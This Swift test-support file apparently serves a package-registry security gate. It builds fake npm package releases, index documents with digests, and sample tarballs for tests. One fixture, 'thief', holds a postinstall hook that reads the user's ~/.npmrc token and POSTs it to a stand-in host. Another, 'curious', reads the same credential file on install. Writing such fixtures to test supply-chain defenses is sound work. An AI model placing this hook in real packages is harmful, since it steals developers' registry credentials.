public import SallyportEcosystem
public import SallyportModel

/// A package of a ``FakeEcosystem``, release by release, as an upstream would offer it.
public struct FakePackage: Sendable {
    private struct File: Sendable {
        var version: String
        var filename: String
        var publishedAt: String
        var bytes: [UInt8]
        var promised: [UInt8]
        var digest: String?
    }

    /// Its identity.
    public let package: Package
    private var files: [File] = []
    private var edition = 0

    /// Makes a package without releases.
    public init(_ package: Package) {
        self.package = package
    }

    /// The file name of a version.
    public func filename(_ version: String) -> String { "\(package.name)-\(version).tgz" }

    /// Adds a release of one file, or replaces it.
    ///
    /// - Parameters:
    ///   - publishedAt: the time in the index; `-` for none.
    ///   - promised: the bytes whose digest stands in the index, when they are other ones.
    ///   - digest: what stands in the place of the digest, when it is not right.
    public mutating func release(
        _ version: String,
        _ bytes: [UInt8],
        publishedAt: String = "2026-01-01T00:00:00Z",
        promised: [UInt8]? = nil,
        digest: String? = nil
    ) {
        edition += 1
        files.removeAll { $0.version == version }
        files.append(
            File(
                version: version,
                filename: filename(version),
                publishedAt: publishedAt,
                bytes: bytes,
                promised: promised ?? bytes,
                digest: digest
            )
        )
    }

    /// The index document, with an entity tag that changes with every release.
    public var document: IndexDocument {
        let lines = files.map { file in
            let digest = file.digest ?? StandInHashing().sha256(file.promised.span).description
            return "\(file.version) \(file.filename) \(file.publishedAt) \(file.promised.count) \(digest)\n"
        }
        return IndexDocument(
            body: Array(lines.joined().utf8),
            contentType: "text/plain",
            url: "https://registry.example.invalid/\(package.name)",
            etag: "\"\(edition)\""
        )
    }

    /// Puts index and files into an upstream.
    public func publish(to upstream: FakeUpstream) {
        for file in files { upstream.serve(file.bytes, as: file.filename) }
        upstream.serve(document, at: package.name)
    }
}

/// Archives of npm packages, as the gate's tests need them.
public enum FakeTarball {
    /// A package that does nothing: nothing in it is against it.
    public static func honest(_ name: String, _ version: String) -> [UInt8] {
        TarBuilder()
            .file("package/package.json", #"{"name":"\#(name)","version":"\#(version)"}"#)
            .file("package/index.js", "module.exports = '\(version)'\n")
            .gzipped()
    }

    /// A package with an install hook that reads a credential file and posts it.
    public static func thief(_ name: String, _ version: String) -> [UInt8] {
        let manifest = #"{"name":"\#(name)","version":"\#(version)","scripts":{"postinstall":"node steal.js"}}"#
        let code = """
            const fs = require('fs'), https = require('https'), os = require('os')
            const token = fs.readFileSync(os.homedir() + '/.npmrc', 'utf8')
            https.request({ host: 'collect.example.invalid', method: 'POST' }).end(token)
            """
        return TarBuilder().file("package/package.json", manifest).file("package/steal.js", code).gzipped()
    }

    /// A package with an install hook that only prints.
    public static func hooked(_ name: String, _ version: String) -> [UInt8] {
        let manifest = #"{"name":"\#(name)","version":"\#(version)","scripts":{"postinstall":"node hello.js"}}"#
        return TarBuilder()
            .file("package/package.json", manifest)
            .file("package/hello.js", "console.log('hello')\n")
            .gzipped()
    }

    /// A package with an install hook that reads a credential file and keeps it to itself: held where nobody knows it.
    public static func curious(_ name: String, _ version: String) -> [UInt8] {
        let manifest = #"{"name":"\#(name)","version":"\#(version)","scripts":{"postinstall":"node look.js"}}"#
        let code = "const length = require('fs').readFileSync(process.env.HOME + '/.npmrc').length\n"
        return TarBuilder().file("package/package.json", manifest).file("package/look.js", code).gzipped()
    }

    /// No archive at all.
    public static func unreadable(_ version: String) -> [UInt8] {
        Array("this is no archive, it is \(version)".utf8)
    }
}
